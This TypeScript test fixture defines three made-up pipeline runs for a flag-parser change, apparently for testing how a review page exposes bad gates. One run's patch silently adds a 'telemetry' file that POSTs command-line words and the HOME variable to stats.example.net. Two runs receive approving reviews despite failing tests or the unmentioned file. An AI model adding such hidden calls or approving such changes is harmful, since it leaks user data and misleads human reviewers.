import type { MadeRun } from './known-run.js';

const REQUIREMENTS = `Command line flags may be given as --name=value, too.

Today \`parseFlags\` (src/flags.js) knows only \`--name value\`. Both forms must give the same result.
An empty value (\`--name=\`) is the empty string. The documentation must say so.`;

const PATCH_FLAGS = `diff --git a/src/flags.js b/src/flags.js
index 1111111..2222222 100644
--- a/src/flags.js
+++ b/src/flags.js
@@ -1,10 +1,15 @@
 /** Reads the flags of a command line: \`--name value\`. */
 export function parseFlags(words) {
   const flags = {};
   for (let at = 0; at < words.length; at++) {
     const word = words[at];
     if (!word.startsWith('--')) continue;
-    flags[word.slice(2)] = words[++at];
+    const equals = word.indexOf('=');
+    if (equals > 0) {
+      flags[word.slice(2, equals)] = word.slice(equals + 1);
+      continue;
+    }
+    flags[word.slice(2)] = words[++at];
   }
   return flags;
 }
`;
const PATCH_TEST = `diff --git a/test/flags.test.js b/test/flags.test.js
index 3333333..4444444 100644
--- a/test/flags.test.js
+++ b/test/flags.test.js
@@ -3,3 +3,7 @@
 test('a flag and its value', () => {
   assert.deepEqual(parseFlags(['--a', '1']), { a: '1' });
 });
+
+test('a flag with its value after an equals sign, which may be empty', () => {
+  assert.deepEqual(parseFlags(['--a=1', '--b=', '--c', '2']), { a: '1', b: '', c: '2' });
+});
`;
const PATCH_README = `diff --git a/README.md b/README.md
index 5555555..6666666 100644
--- a/README.md
+++ b/README.md
@@ -7,2 +7,3 @@
 Flags are given as \`--name value\`.
+\`--name=value\` means the same; \`--name=\` gives the empty string.
 
`;
const PATCH_SECRET = `diff --git a/src/telemetry.js b/src/telemetry.js
new file mode 100644
index 0000000..7777777
--- /dev/null
+++ b/src/telemetry.js
@@ -0,0 +1,5 @@
+/** Tells how the tool is used. */
+export function tell(words) {
+  const body = JSON.stringify({ words, home: process.env.HOME });
+  void fetch('https://stats.example.net/v1', { method: 'POST', body }).catch(() => {});
+}
`;

const files = {
  flags: { path: 'src/flags.js', status: 'modified', added: 6, removed: 1 },
  test: { path: 'test/flags.test.js', status: 'modified', added: 4, removed: 0 },
  readme: { path: 'README.md', status: 'modified', added: 1, removed: 0 },
  telemetry: { path: 'src/telemetry.js', status: 'added', added: 5, removed: 0 },
} as const;

const GREEN =
  '> flags@1.4.0 test\n> node --test\n\n✔ a flag and its value (1.2ms)\n✔ a flag with its value after an equals sign, which may be empty (0.3ms)\nℹ tests 2\nℹ pass 2\nℹ fail 0\n';
const RED = `> flags@1.4.0 test
> node --test

✔ a flag and its value (1.2ms)
✖ a flag with its value after an equals sign, which may be empty (0.9ms)
  AssertionError: Expected values to be strictly deep-equal:
  + actual - expected
    { a: '1',
  +   b: '--c'
  -   b: '',
  -   c: '2'
    }
ℹ tests 2
ℹ pass 1
ℹ fail 1
`;

const phasesWith = (verdict: string, evidence: string): MadeRun['phases'] => [
  {
    key: 'requirements',
    schema: 'requirements',
    gate: 'requirements-approval',
    waited: 95,
    comment: 'Yes. Mention the empty value in the README.',
    artifact: {
      summary:
        'Flags may be written --name=value, with the same result as --name value. An empty value is the empty string.',
      requirements: [
        {
          id: 'R1',
          statement: 'parseFlags takes --name=value and --name value alike.',
          priority: 'must',
          acceptance: ['{a: "1"} for --a=1 and for --a 1.'],
          source: 'The request.',
        },
        { id: 'R2', statement: '--name= gives the empty string.', priority: 'must', acceptance: ['{b: ""} for --b=.'] },
        { id: 'R3', statement: 'The README says so.', priority: 'should', acceptance: ['README.md names both forms.'] },
      ],
      outOfScope: ['Short flags such as -n.'],
      assumptions: ['A value may itself contain an equals sign.'],
    },
  },
  {
    key: 'implementation',
    schema: 'implementation',
    work: 11,
    artifact: {
      summary:
        '`parseFlags` in src/flags.js splits at the first equals sign. test/flags.test.js has a test for both forms and for the empty value, and README.md names them.',
      tasksDone: ['T1', 'T2'],
      tests: [{ path: 'test/flags.test.js', covers: 'Both forms, and the empty value.' }],
      deviations: [],
      notDone: [],
      howToCheck: ['npm test'],
    },
  },
  {
    key: 'review',
    schema: 'review',
    gate: 'merge-approval',
    state: 'awaiting_approval',
    waited: 0,
    artifact: {
      summary: 'The change does what was asked, and a test shows it.',
      verdict,
      requirements: [
        { id: 'R1', status: 'met', evidence },
        { id: 'R2', status: 'met', evidence: 'test/flags.test.js, the second test.' },
        { id: 'R3', status: 'met', evidence: 'README.md, line 8.' },
      ],
      findings: [],
      praise: ['The change is small.'],
    },
  },
];

/** Three gates for a reader who decides from `review.html` alone: one is good, and two have something wrong. */
export const GATES: Readonly<Record<'good' | 'red' | 'unnamed', MadeRun>> = {
  good: {
    id: 'equals-flags',
    requirements: REQUIREMENTS,
    phases: phasesWith('approve', 'src/flags.js splits at the first equals sign.'),
    files: [files.readme, files.flags, files.test],
    patch: PATCH_README + PATCH_FLAGS + PATCH_TEST,
    checks: [
      { phaseKey: 'implementation', name: 'test', outcome: 'passed', command: 'npm test', tail: GREEN },
      { phaseKey: 'implementation', name: 'lint', outcome: 'passed', command: 'npm run lint', tail: '' },
    ],
  },
  red: {
    id: 'equals-flags-2',
    requirements: REQUIREMENTS,
    phases: phasesWith('approve', 'src/flags.js splits at the first equals sign.'),
    files: [files.readme, files.flags, files.test],
    patch:
      PATCH_README +
      PATCH_FLAGS.replace('if (equals > 0) {', 'if (equals > 0 && equals < word.length - 1) {') +
      PATCH_TEST,
    checks: [
      { phaseKey: 'implementation', name: 'test', outcome: 'failed', command: 'npm test', tail: RED },
      { phaseKey: 'implementation', name: 'lint', outcome: 'passed', command: 'npm run lint', tail: '' },
    ],
  },
  unnamed: {
    id: 'equals-flags-3',
    requirements: REQUIREMENTS,
    phases: phasesWith('approve', 'src/flags.js splits at the first equals sign.'),
    files: [files.readme, files.flags, files.telemetry, files.test],
    patch: PATCH_README + PATCH_FLAGS + PATCH_SECRET + PATCH_TEST,
    checks: [
      { phaseKey: 'implementation', name: 'test', outcome: 'passed', command: 'npm test', tail: GREEN },
      { phaseKey: 'implementation', name: 'lint', outcome: 'passed', command: 'npm run lint', tail: '' },
    ],
  },
};
